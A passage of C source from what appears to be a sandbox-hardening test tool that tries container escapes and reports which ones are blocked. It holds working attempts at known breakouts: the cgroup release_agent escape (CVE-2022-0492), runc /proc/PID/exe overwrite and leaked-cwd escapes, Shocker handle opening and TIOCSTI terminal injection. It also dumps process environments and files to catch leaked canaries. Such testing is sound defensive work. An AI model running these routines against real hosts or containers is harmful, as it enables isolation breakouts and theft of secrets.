	TRY(syscall(NR_fsmount, -1, 0UL, 0UL), "kernel fsmount");
}
static void k_move_mount(void)
{
	TRY(syscall(NR_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/workspace", 0UL),
	    "kernel move-mount");
}
static void k_mount_setattr(void)
{
	struct mount_attr_v0 a;

	memset(&a, 0, sizeof(a));
	a.attr_clr = 0x1; /* MOUNT_ATTR_RDONLY */
	TRY(syscall(NR_mount_setattr, AT_FDCWD, "/usr", 0x8000UL /* AT_RECURSIVE */, &a, sizeof(a)),
	    "kernel mount-setattr");
}
static void k_open_tree_attr(void)
{
	struct mount_attr_v0 a;

	memset(&a, 0, sizeof(a));
	a.attr_clr = 0x1;
	TRY(syscall(NR_open_tree_attr, AT_FDCWD, "/usr", 1UL | O_CLOEXEC, &a, sizeof(a)),
	    "kernel open-tree-attr");
}
static void k_io_uring(void)
{
	char params[120]; /* struct io_uring_params */
	long fd;

	memset(params, 0, sizeof(params));
	fd = TRY(syscall(425, 8, params), "kernel io-uring-setup");
	if (fd >= 0)
		close((int)fd);
}
static void k_userfaultfd(void)
{
	/* UFFD_USER_MODE_ONLY works for anyone, whatever the sysctl says. */
	long fd = TRY(syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | 1), "kernel userfaultfd");
	if (fd >= 0)
		close((int)fd);
}
static void k_bpf(void)
{
	union bpf_attr a;
	long fd;

	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	fd = TRY(syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)), "kernel bpf");
	if (fd >= 0)
		close((int)fd);
}
static void k_perf(void)
{
	struct perf_event_attr a;
	long fd;

	memset(&a, 0, sizeof(a));
	a.type = PERF_TYPE_SOFTWARE;
	a.size = sizeof(a);
	a.config = PERF_COUNT_SW_CPU_CLOCK;
	a.disabled = 1;
	a.exclude_kernel = 1;
	a.exclude_hv = 1;
	/* Self-monitoring: allowed for anyone at perf_event_paranoid <= 2. */
	fd = TRY(syscall(SYS_perf_event_open, &a, 0, -1, -1, 0UL), "kernel perf-event-open");
	if (fd >= 0)
		close((int)fd);
}
static void k_add_key(void)
{
	TRY(syscall(SYS_add_key, "user", "kiln-attack-key", "payload", 7UL, -3L /* session */),
	    "kernel add-key");
}
static void k_keyctl(void)
{
	TRY(syscall(SYS_keyctl, 0L /* GET_KEYRING_ID */, -4L /* user keyring */, 1L),
	    "kernel keyctl");
}
static void k_request_key(void)
{
	TRY(syscall(SYS_request_key, "user", "kiln-attack-nonexistent", NULL, 0L),
	    "kernel request-key");
}
struct handle_buf {
	unsigned int handle_bytes;
	int handle_type;
	unsigned char f_handle[128];
};
static void k_name_to_handle(void)
{
	struct handle_buf h;
	int mount_id;

	memset(&h, 0, sizeof(h));
	h.handle_bytes = sizeof(h.f_handle);
	TRY(syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h, &mount_id, 0),
	    "kernel name-to-handle-at");
}
static void k_open_by_handle(void)
{
	/* Shocker: a guessed handle for inode 2 (the root of an ext4/xfs
	 * filesystem), opened relative to a mount of that filesystem. */
	struct handle_buf h;
	int mfd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long fd;

	memset(&h, 0, sizeof(h));
	h.handle_bytes = 8;
	h.handle_type = 1; /* FILEID_INO32_GEN */
	h.f_handle[0] = 2;
	fd = TRY(syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_CLOEXEC),
		 "kernel open-by-handle-at");
	if (fd >= 0)
		close((int)fd);
	if (mfd >= 0)
		close(mfd);
}
static void k_kexec_load(void)
{
	TRY(syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL), "kernel kexec-load");
}
static void k_kexec_file_load(void)
{
	TRY(syscall(SYS_kexec_file_load, -1, -1, 1UL, "", 0UL), "kernel kexec-file-load");
}
static void k_init_module(void)
{
	static char image[64];

	TRY(syscall(SYS_init_module, image, sizeof(image), ""), "kernel init-module");
}
static void k_finit_module(void)
{
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);

	TRY(syscall(SYS_finit_module, fd, "", 0), "kernel finit-module");
	if (fd >= 0)
		close(fd);
}
static void k_delete_module(void)
{
	TRY(syscall(SYS_delete_module, "kiln_attack_nonexistent", (unsigned long)O_NONBLOCK),
	    "kernel delete-module");
}
static void sock_try(const char *label, unsigned long fam, unsigned long type, unsigned long proto)
{
	long fd = TRY(syscall(SYS_socket, fam, type, proto), "kernel %s", label);

	if (fd >= 0)
		close((int)fd);
}
static void k_packet(void)
{
	sock_try("packet-socket", AF_PACKET, SOCK_RAW, htons(0x0003));
}
static void k_packet_high(void)
{
	sock_try("packet-socket-highbits", AF_PACKET | (1UL << 32), SOCK_RAW, htons(0x0003));
}
static void k_raw(void)
{
	sock_try("raw-socket", AF_INET, SOCK_RAW, IPPROTO_ICMP);
}
static void k_raw6(void)
{
	sock_try("raw6-socket", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
}
static void k_sock_packet(void)
{
	sock_try("inet-sock-packet", AF_INET, SOCK_PACKET, htons(0x0003));
}
static void k_netlink_audit(void)
{
	sock_try("netlink-audit", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
}
static void k_vsock(void)
{
	sock_try("vsock", AF_VSOCK, SOCK_STREAM, 0);
}
static void k_alg(void)
{
	sock_try("alg-socket", AF_ALG, SOCK_SEQPACKET, 0);
}
static void k_afkey(void)
{
	sock_try("af-key-socket", AF_KEY, SOCK_RAW, 2 /* PF_KEY_V2 */);
}
static void k_tipc(void)
{
	sock_try("tipc-socket", AF_TIPC, SOCK_RDM, 0);
}
static void k_socketpair_inet(void)
{
	int sv[2];

	if (TRY(syscall(SYS_socketpair, AF_INET, SOCK_STREAM, 0, sv), "kernel socketpair-inet") >=
	    0) {
		close(sv[0]);
		close(sv[1]);
	}
}
static void k_personality(void)
{
	TRY(syscall(SYS_personality, 0x0400000UL /* READ_IMPLIES_EXEC */), "kernel personality");
	syscall(SYS_personality, 0UL);
}
static void k_iopl(void)
{
	TRY(syscall(SYS_iopl, 3), "kernel iopl");
}
static void k_ioperm(void)
{
	TRY(syscall(SYS_ioperm, 0x80UL, 1UL, 1), "kernel ioperm");
}
static void k_syslog(void)
{
	static char buf[4096];
	long n =
		TRY(syscall(SYS_syslog, 3 /* READ_ALL */, buf, (long)sizeof(buf)), "kernel syslog");

	if (n > 0)
		out_raw(buf, (size_t)n);
}
static void k_memfd_secret(void)
{
	long fd = TRY(syscall(NR_memfd_secret, 0UL), "kernel memfd-secret");
	if (fd >= 0)
		close((int)fd);
}
static void k_fanotify(void)
{
	TRY(syscall(SYS_fanotify_init, 0UL, 0UL), "kernel fanotify-init");
}
static void k_swapon(void)
{
	TRY(syscall(SYS_swapon, "/tmp/kiln-atk-swap", 0), "kernel swapon");
}
static void k_reboot(void)
{
	/* Wrong magic: EINVAL even for a privileged caller, so nothing happens. */
	TRY(syscall(SYS_reboot, 0UL, 0UL, 0UL, NULL), "kernel reboot");
}
static void k_acct(void)
{
	TRY(syscall(SYS_acct, NULL), "kernel acct");
}
static void k_vhangup(void)
{
	TRY(syscall(SYS_vhangup), "kernel vhangup");
}
static void k_quotactl(void)
{
	TRY(syscall(SYS_quotactl, 0x800007UL /* Q_GETQUOTA */, "/usr", 0, NULL), "kernel quotactl");
}

static const struct {
	const char *name;
	void (*fn)(void);
} kernel_attacks[] = {
	{"unshare-user", k_unshare_user},
	{"unshare-all", k_unshare_all},
	{"clone-newuser", k_clone_newuser},
	{"clone-newuser-highbits", k_clone_newuser_high},
	{"clone-each-ns", k_clone_each_ns},
	{"clone3-newuser", k_clone3_newuser},
	{"clone3", k_clone3},
	{"setns", k_setns},
	{"mount-tmpfs", k_mount},
	{"remount-usr-rw", k_remount_usr},
	{"umount-usr", k_umount},
	{"pivot-root", k_pivot_root},
	{"chroot", k_chroot},
	{"open-tree", k_open_tree},
	{"open-tree-attr", k_open_tree_attr},
	{"fsopen", k_fsopen},
	{"fspick", k_fspick},
	{"fsconfig", k_fsconfig},
	{"fsmount", k_fsmount},
	{"move-mount", k_move_mount},
	{"mount-setattr", k_mount_setattr},
	{"io-uring-setup", k_io_uring},
	{"userfaultfd", k_userfaultfd},
	{"bpf", k_bpf},
	{"perf-event-open", k_perf},
	{"add-key", k_add_key},
	{"keyctl", k_keyctl},
	{"request-key", k_request_key},
	{"name-to-handle-at", k_name_to_handle},
	{"open-by-handle-at", k_open_by_handle},
	{"kexec-load", k_kexec_load},
	{"kexec-file-load", k_kexec_file_load},
	{"init-module", k_init_module},
	{"finit-module", k_finit_module},
	{"delete-module", k_delete_module},
	{"packet-socket", k_packet},
	{"packet-socket-highbits", k_packet_high},
	{"raw-socket", k_raw},
	{"raw6-socket", k_raw6},
	{"inet-sock-packet", k_sock_packet},
	{"netlink-audit", k_netlink_audit},
	{"vsock", k_vsock},
	{"alg-socket", k_alg},
	{"af-key-socket", k_afkey},
	{"tipc-socket", k_tipc},
	{"socketpair-inet", k_socketpair_inet},
	{"personality", k_personality},
	{"iopl", k_iopl},
	{"ioperm", k_ioperm},
	{"syslog", k_syslog},
	{"memfd-secret", k_memfd_secret},
	{"fanotify-init", k_fanotify},
	{"swapon", k_swapon},
	{"reboot", k_reboot},
	{"acct", k_acct},
	{"vhangup", k_vhangup},
	{"quotactl", k_quotactl},
};

/* kernel NAME...|all|list */
static int cmd_kernel(int argc, char **argv)
{
	if (argc < 2)
		usage("kernel NAME...|all|list");
	if (strcmp(argv[1], "list") == 0) {
		for (size_t i = 0; i < ARRAY_SIZE(kernel_attacks); i++)
			say("%s\n", kernel_attacks[i].name);
		return 0;
	}
	for (int a = 1; a < argc; a++) {
		bool all = strcmp(argv[a], "all") == 0, found = false;

		for (size_t i = 0; i < ARRAY_SIZE(kernel_attacks); i++)
			if (all || strcmp(argv[a], kernel_attacks[i].name) == 0) {
				kernel_attacks[i].fn();
				found = true;
			}
		if (!found)
			usage("unknown kernel attack %s (try: kernel list)", argv[a]);
	}
	return finish();
}

/* cgroup-escape DIR: the CVE-2022-0492 sequence. Mount cgroup v1 (memory)
 * on DIR, make a child, set notify_on_release and release_agent. Every
 * step is tried even if an earlier one failed. */
static int cmd_cgroup_escape(int argc, char **argv)
{
	char path[PATH_MAX];
	const char *dir = argc > 1 ? argv[1] : "/tmp/kiln-atk-cgroup";
	const char *agent = argc > 2 ? argv[2] : "/workspace/out/release-agent-ran";

	TRY(syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP),
	    "cgroup-escape unshare");
	if (mkdir(dir, 0755) < 0 && errno != EEXIST)
		say("mkdir %s: %s\n", dir, errname(errno));
	TRY(syscall(SYS_mount, "cgroup", dir, "cgroup", 0UL, "memory"), "cgroup-escape mount-v1");
	TRY(syscall(SYS_mount, "cgroup", dir, "cgroup", 0UL, "rdma"),
	    "cgroup-escape mount-v1-rdma");
	TRY(syscall(SYS_mount, "cgroup2", dir, "cgroup2", 0UL, NULL), "cgroup-escape mount-v2");
	/* Informational: without a cgroupfs this is just a directory. */
	snprintf(path, sizeof(path), "%s/kilnpwn", dir);
	if (mkdir(path, 0755) < 0)
		say("cgroup-escape mkdir-child: %s\n", errname(errno));
	snprintf(path, sizeof(path), "%s/kilnpwn/notify_on_release", dir);
	open_and_write("cgroup-escape notify_on_release", path, O_WRONLY, "1");
	snprintf(path, sizeof(path), "%s/release_agent", dir);
	open_and_write("cgroup-escape release_agent", path, O_WRONLY, agent);
	/* And the host's paths directly, had any been left visible. */
	open_and_write("cgroup-escape host-release_agent", "/sys/fs/cgroup/memory/release_agent",
		       O_WRONLY, agent);
	return finish();
}

/* ---- file descriptors, cwd, /proc ------------------------------------- */

static void list_dir_fd(int dfd, const char *label)
{
	int d2 = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *d;
	struct dirent *de;

	if (d2 < 0 || (d = fdopendir(d2)) == NULL) {
		if (d2 >= 0)
			close(d2);
		say("%s: list: %s\n", label, errname(errno));
		return;
	}
	while ((de = readdir(d)) != NULL)
		say("%s: entry %s\n", label, de->d_name);
	closedir(d);
}

/* Dump every regular file directly inside dir fd (the canary dir case). */
static void dump_dir_files(int dfd, const char *label)
{
	int d2 = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *d;
	struct dirent *de;

	if (d2 < 0 || (d = fdopendir(d2)) == NULL) {
		if (d2 >= 0)
			close(d2);
		return;
	}
	while ((de = readdir(d)) != NULL) {
		int f;

		if (de->d_name[0] == '.')
			continue;
		f = openat(dirfd(d), de->d_name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC | O_NONBLOCK);
		if (f < 0)
			continue;
		struct stat st;
		if (fstat(f, &st) == 0 && S_ISREG(st.st_mode) && st.st_size < (1 << 20)) {
			say("--- begin %s/%s\n", label, de->d_name);
			if (dump_fd(f, 1 << 20) > 0)
				result(0, 0, "%s/%s readable", label, de->d_name);
			say("--- end %s/%s\n", label, de->d_name);
		}
		close(f);
	}
	closedir(d);
}

/* fd-scan [MAX]: every open fd from 0 to MAX (default 1023): what it is,
 * its contents when readable, and for directories their entries and those
 * of "..". Any fd >= 3 counts as a leak (success). */
static int cmd_fd_scan(int argc, char **argv)
{
	int max = argc > 1 ? (int)num(argv[1]) : 1023;

	for (int fd = 0; fd <= max; fd++) {
		char lnk[64], target[PATH_MAX], label[96];
		struct stat st;
		ssize_t n;

		if (fstat(fd, &st) < 0)
			continue;
		snprintf(lnk, sizeof(lnk), "/proc/self/fd/%d", fd);
		n = readlink(lnk, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		say("fd %d: %s -> %s\n", fd, type_name(st.st_mode), target);
		if (fd >= 3)
			result(0, 0, "fd %d open", fd);
		snprintf(label, sizeof(label), "fd %d", fd);
		if (S_ISREG(st.st_mode)) {
			char buf[65536];
			ssize_t r = pread(fd, buf, sizeof(buf), 0);

			if (r > 0) {
				say("--- begin fd %d\n", fd);
				out_text(buf, (size_t)r);
				say("--- end fd %d\n", fd);
			}
			/* Re-open through /proc: a fresh description. */
			int f2 = open(lnk, O_RDONLY | O_CLOEXEC);
			if (f2 >= 0) {
				say("--- begin reopen %s\n", lnk);
				dump_fd(f2, 1 << 20);
				say("--- end reopen %s\n", lnk);
				close(f2);
			}
		} else if (S_ISDIR(st.st_mode)) {
			int up;

			list_dir_fd(fd, label);
			dump_dir_files(fd, label);
			up = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (up >= 0) {
				char l2[128];

				snprintf(l2, sizeof(l2), "fd %d/..", fd);
				list_dir_fd(up, l2);
				dump_dir_files(up, l2);
				close(up);
			}
		}
	}
	return finish();
}

/* cwd-escape NAME: look for a file NAME in the caller's working directory
 * by every road a leaked cwd would offer (runc CVE-2024-21626). */
static int cmd_cwd_escape(int argc, char **argv)
{
	static const char *const prefixes[] = {
		"",
		"./",
		"../",
		"../../",
		"../../../",
		"/proc/self/cwd/",
		"/proc/1/cwd/",
		"/proc/1/root/",
		"/proc/self/root/",
		"/proc/self/cwd/../",
		"/proc/1/cwd/../",
		"/",
		"/workspace/",
		"/tmp/",
		"/home/builder/",
		"/root/",
		"/run/",
	};
	const char *name;
	char path[PATH_MAX];
	int fd;

	if (argc < 2)
		usage("cwd-escape NAME");
	name = argv[1];
	if (getcwd(path, sizeof(path)) != NULL)
		say("cwd: %s\n", path);
	for (size_t i = 0; i < ARRAY_SIZE(prefixes); i++) {
		snprintf(path, sizeof(path), "%s%s", prefixes[i], name);
		fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0) {
			result(-1, errno, "cwd-escape open %s", path);
			continue;
		}
		say("--- begin %s\n", path);
		dump_fd(fd, 1 << 20);
		say("--- end %s\n", path);
		result(0, 0, "cwd-escape open %s", path);
		close(fd);
	}
	/* openat relative to every fd that might be a directory. */
	for (fd = 0; fd < 256; fd++) {
		int f;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		f = openat(fd, name, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (f >= 0) {
			say("--- begin openat(%d, %s)\n", fd, name);
			dump_fd(f, 1 << 20);
			say("--- end openat(%d, %s)\n", fd, name);
			result(0, 0, "cwd-escape openat(%d)", fd);
			close(f);
		}
	}
	/* chdir("..") as far as it goes, then look. */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (getcwd(path, sizeof(path)) != NULL)
		say("cwd after chdir(..): %s\n", path);
	fd = open(name, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd >= 0) {
		dump_fd(fd, 1 << 20);
		result(0, 0, "cwd-escape after chdir(..)");
		close(fd);
	} else {
		result(-1, errno, "cwd-escape after chdir(..)");
	}
	return finish();
}

static void dump_proc_file(const char *pid, const char *file)
{
	char path[PATH_MAX];
	int fd;
	long n;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		say("%s: %s\n", path, errname(errno));
		return;
	}
	say("--- begin %s\n", path);
	n = dump_fd(fd, 1 << 20);
	say("--- end %s (%ld bytes%s)\n", path, n, n < 0 ? ", read failed" : "");
	close(fd);
}

static void dump_proc_pid(const char *pid)
{
	static const char *const files[] = {
		"cmdline", "environ", "status", "maps",	       "mountinfo", "auxv",  "stat",
		"comm",	   "syscall", "stack",	"personality", "cgroup",    "limits"};
	static const char *const links[] = {"cwd", "root", "exe"};
	char path[PATH_MAX], target[PATH_MAX];
	int fd;

	for (size_t i = 0; i < ARRAY_SIZE(files); i++)
		dump_proc_file(pid, files[i]);
	for (size_t i = 0; i < ARRAY_SIZE(links); i++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			say("%s: %s\n", path, errname(errno));
		else
			say("%s -> %.*s\n", path, (int)n, target);
	}
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		say("%s: %s\n", path, errname(errno));
	} else {
		list_dir_fd(fd, path);
		close(fd);
	}
	/* The memory itself: environment strings live at the top of the
	 * stack; read around env_start if we are let in at all. */
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		result(-1, errno, "open %s", path);
	} else {
		result(0, 0, "open %s", path);
		close(fd);
	}
}

/* proc-dump PID...|all: cmdline, environ, status, maps, links, fds of each
 * process (all: every process visible in our /proc). */
static int cmd_proc_dump(int argc, char **argv)
{
	if (argc < 2)
		usage("proc-dump PID...|all");
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "all") == 0) {
			DIR *d = opendir("/proc");
			struct dirent *de;

			if (d == NULL) {
				say("/proc: %s\n", errname(errno));
				continue;
			}
			while ((de = readdir(d)) != NULL)
				if (isdigit((unsigned char)de->d_name[0]))
					dump_proc_pid(de->d_name);
			closedir(d);
		} else {
			dump_proc_pid(argv[i]);
		}
	}
	return finish();
}

/* exe-write PID...|all: the runc CVE-2019-5736 pattern. Open
 * /proc/PID/exe for writing directly, with O_PATH and re-open through
 * /proc/self/fd, and write if anything opens. */
static void exe_write_one(const char *pid)
{
	static const struct {
		const char *label;
		int flags;
	} modes[] = {
		{"O_WRONLY", O_WRONLY},
		{"O_RDWR", O_RDWR},
		{"O_WRONLY|O_TRUNC", O_WRONLY | O_TRUNC},
		{"O_WRONLY|O_APPEND", O_WRONLY | O_APPEND},
	};
	char path[PATH_MAX], target[PATH_MAX];
	ssize_t n;
	int p;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	say("%s -> %s\n", path, n < 0 ? errname(errno) : (target[n] = '\0', target));
	for (size_t i = 0; i < ARRAY_SIZE(modes); i++) {
		int fd = open(path, modes[i].flags | O_CLOEXEC);

		if (fd < 0) {
			result(-1, errno, "exe-write %s %s", path, modes[i].label);
			continue;
		}
		n = write(fd, "#!/bin/sh\necho pwned\n", 21);
		result(n, errno, "exe-write %s %s (write)", path, modes[i].label);
		close(fd);
	}
	/* O_PATH, then upgrade through the magic link. */
	p = open(path, O_PATH | O_CLOEXEC);
	if (p < 0) {
		result(-1, errno, "exe-write %s O_PATH", path);
		return;
	}
	snprintf(target, sizeof(target), "/proc/self/fd/%d", p);
	open_and_write("exe-write O_PATH-reopen", target, O_WRONLY, "#!/bin/sh\necho pwned\n");
	close(p);
}

static int cmd_exe_write(int argc, char **argv)
{
	if (argc < 2)
		usage("exe-write PID...|all");
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "all") == 0) {
			DIR *d = opendir("/proc");
			struct dirent *de;

			if (d == NULL)
				continue;
			while ((de = readdir(d)) != NULL)
				if (isdigit((unsigned char)de->d_name[0]))
					exe_write_one(de->d_name);
			closedir(d);
		} else {
			exe_write_one(argv[i]);
		}
	}
	return finish();
}

/* dump-tree DIR...: every regular file under DIR (no symlinks followed,
 * /proc /sys /dev /usr skipped) printed with its name. A canary anywhere
 * in the sandbox's filesystem ends up on stdout. */
static long g_tree_bytes;

static void dump_tree_at(int dfd, const char *path, int depth)
{
	DIR *d;
	struct dirent *de;
	int d2;

	if (depth > 32)
		return;
	d2 = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (d2 < 0 || (d = fdopendir(d2)) == NULL) {
		if (d2 >= 0)
			close(d2);
		say("tree %s: %s\n", path, errname(errno));
		return;
	}
	while ((de = readdir(d)) != NULL) {
		char sub[PATH_MAX];
		struct stat st;
		int f;

		if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
			continue;
		snprintf(sub, sizeof(sub), "%s/%s", strcmp(path, "/") == 0 ? "" : path, de->d_name);
		if (strcmp(sub, "/proc") == 0 || strcmp(sub, "/sys") == 0 ||
		    strcmp(sub, "/dev") == 0 || strcmp(sub, "/usr") == 0)
			continue;
		if (fstatat(dirfd(d), de->d_name, &st, AT_SYMLINK_NOFOLLOW) < 0)
			continue;
		if (S_ISLNK(st.st_mode)) {
			char t[PATH_MAX];
			ssize_t n = readlinkat(dirfd(d), de->d_name, t, sizeof(t) - 1);

			say("tree %s -> %.*s\n", sub, n < 0 ? 0 : (int)n, t);
			continue;
		}
		if (S_ISDIR(st.st_mode)) {
			f = openat(dirfd(d), de->d_name,
				   O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
			if (f < 0) {
				say("tree %s/: %s\n", sub, errname(errno));
				continue;
			}
			dump_tree_at(f, sub, depth + 1);
			close(f);
			continue;
		}
		if (!S_ISREG(st.st_mode) || st.st_size > (1 << 20) || g_tree_bytes > (32L << 20))
			continue;
		f = openat(dirfd(d), de->d_name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC | O_NONBLOCK);
		if (f < 0) {
			say("tree %s: %s\n", sub, errname(errno));
			continue;
		}
		say("--- begin %s\n", sub);
		g_tree_bytes += dump_fd(f, 1 << 20);
		say("--- end %s\n", sub);
		close(f);
	}
	closedir(d);
}

static int cmd_dump_tree(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		if (fd < 0) {
			say("tree %s: %s\n", argv[i], errname(errno));
			continue;
		}
		dump_tree_at(fd, argv[i], 0);
		close(fd);
	}
	return 0;
}

/* ---- terminals -------------------------------------------------------- */

static int target_fd(const char *t, bool *opened)
{
	*opened = false;
	if (isdigit((unsigned char)t[0]))
		return (int)num(t);
	*opened = true;
	return open(t, O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
}

static void ioctl_try(int fd, unsigned long req, const char *what, const char *target)
{
	char c = 'x';
	char sub[2] = {3 /* TIOCL_PASTESEL */, 0};
	void *arg = (req & 0xffffffffUL) == TIOCLINUX ? (void *)sub : (void *)&c;

	TRY(syscall(SYS_ioctl, fd, req, arg), "%s %s", what, target);
}

/* tiocsti|tiocsti-high|tioclinux|tioclinux-high TARGET... (fd number or path) */
static int cmd_tty_ioctl(int argc, char **argv)
{
	unsigned long req;

	if (strcmp(argv[0], "tiocsti") == 0)
		req = TIOCSTI;
	else if (strcmp(argv[0], "tiocsti-high") == 0)
		req = TIOCSTI_HIGH;
	else if (strcmp(argv[0], "tioclinux") == 0)
		req = TIOCLINUX;
	else
		req = TIOCLINUX_HIGH;
	if (argc < 2)
		usage("%s FD|PATH...", argv[0]);
	for (int i = 1; i < argc; i++) {
		bool opened;
		int fd = target_fd(argv[i], &opened);

		if (fd < 0) {
			result(-1, errno, "%s %s (open)", argv[0], argv[i]);
			continue;
		}
		ioctl_try(fd, req, argv[0], argv[i]);
		if (opened)
			close(fd);
	}
	return finish();
}

/* tty-attack: every terminal-injection road from inside the sandbox.
 *  1. TIOCSTI/TIOCLINUX (plain and with high bits) on every open fd;
 *  2. on /dev/tty, /dev/console, /dev/stdin...;
 *  3. on a pty of our own that we make our controlling terminal: the
 *     kernel itself would allow TIOCSTI there (legacy_tiocsti=1), so only
 *     the seccomp filter can refuse it, high bits or not.
 * Prints "ATTEMPTS n": the number of ioctls with a denied request made. */
static int cmd_tty_attack(int argc, char **argv)
{
	static const unsigned long reqs[] = {TIOCSTI, TIOCSTI_HIGH, TIOCLINUX, TIOCLINUX_HIGH};
	static const char *const req_names[] = {"tiocsti", "tiocsti-high", "tioclinux",
						"tioclinux-high"};
	static const char *const paths[] = {
		"/dev/tty",	   "/dev/console", "/dev/stdin",   "/dev/stdout",  "/dev/stderr",
		"/proc/self/fd/0", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/tty0",
		"/dev/tty1",	   "/dev/pts/0",   "/dev/pts/1"};
	int ioctls = 0;
	int m, s;
	char name[64], label[96];
	int inq = -1;

	(void)argc;
	(void)argv;
	/* Closing the master of our own controlling terminal hangs us up. */
	signal(SIGHUP, SIG_IGN);
	for (int fd = 0; fd < 256; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(label, sizeof(label), "fd:%d", fd);
		for (size_t r = 0; r < ARRAY_SIZE(reqs); r++) {
			ioctl_try(fd, reqs[r], req_names[r], label);
			ioctls++;
		}
	}
	for (size_t i = 0; i < ARRAY_SIZE(paths); i++) {
		int fd = open(paths[i], O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);

		if (fd < 0) {
			result(-1, errno, "open %s", paths[i]);
			continue;
		}
		for (size_t r = 0; r < ARRAY_SIZE(reqs); r++) {
			ioctl_try(fd, reqs[r], req_names[r], paths[i]);
			ioctls++;
		}
		close(fd);
	}

	/* Our own pty as controlling terminal. */
	m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 || ptsname_r(m, name, sizeof(name)) != 0) {
		say("own-pty: %s\n", errname(errno));
	} else if ((s = open(name, O_RDWR | O_CLOEXEC)) < 0) {
		say("own-pty open %s: %s\n", name, errname(errno));
	} else {
		struct termios t;

		if (setsid() < 0 && errno != EPERM)
			say("own-pty setsid: %s\n", errname(errno));
		if (ioctl(s, TIOCSCTTY, 0) < 0)
			say("own-pty TIOCSCTTY: %s\n", errname(errno));
		else
			say("own-pty: %s is our controlling terminal\n", name);
		if (tcgetattr(s, &t) == 0) {
			cfmakeraw(&t);
			if (tcsetattr(s, TCSANOW, &t) < 0)
				say("own-pty tcsetattr: %s\n", errname(errno));
		}
		for (size_t r = 0; r < ARRAY_SIZE(reqs); r++) {
			ioctl_try(s, reqs[r], req_names[r], "own-pty");
			ioctls++;
		}
		if (ioctl(s, FIONREAD, &inq) == 0)
			say("own-pty FIONREAD %d\n", inq);
		close(s);
	}
	if (m >= 0)
		close(m);
	say("ATTEMPTS %d\n", ioctls);
	return finish();
}

/* pty-run [-o FILE] -- CMD [ARG]...: run CMD on a new pseudo-terminal as
 * its controlling terminal (session leader, stdin/stdout/stderr = the
 * slave), in raw mode so that any injected byte counts at once. Afterwards
 * report what is waiting in the slave's input queue: PTY-INQ n and
 * PTY-INJECTED "<bytes>" (on stderr, after PTY-SLAVE /dev/pts/N at the
 * start). CMD's output (from the master) goes to FILE or
 * stdout. Exit status: CMD's (128+sig if killed). */
static int cmd_pty_run(int argc, char **argv)
{
	const char *outfile = NULL;
	char name[64];
	int i = 1, m, s, out = 1, status = 0, inq = 0;
	pid_t pid;
	struct termios t;
	bool done = false;

	while (i < argc && strcmp(argv[i], "--") != 0) {
		if (strcmp(argv[i], "-o") == 0 && i + 1 < argc) {
			outfile = argv[i + 1];
			i += 2;
		} else {
			usage("pty-run [-o FILE] -- CMD [ARG]...");
		}
	}
	if (i >= argc - 1)
		usage("pty-run [-o FILE] -- CMD [ARG]...");
	i++;
	if (outfile && (out = open(outfile, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644)) < 0) {
		perror(outfile);
		return 2;
	}
	m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 || ptsname_r(m, name, sizeof(name)) != 0) {
		perror("pty");
		return 2;
	}
	s = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (s < 0 || tcgetattr(s, &t) < 0) {
		perror(name);
		return 2;
	}
	cfmakeraw(&t);
	if (tcsetattr(s, TCSANOW, &t) < 0) {
		perror("tcsetattr");
		return 2;
	}
	fprintf(stderr, "PTY-SLAVE %s\n", name);
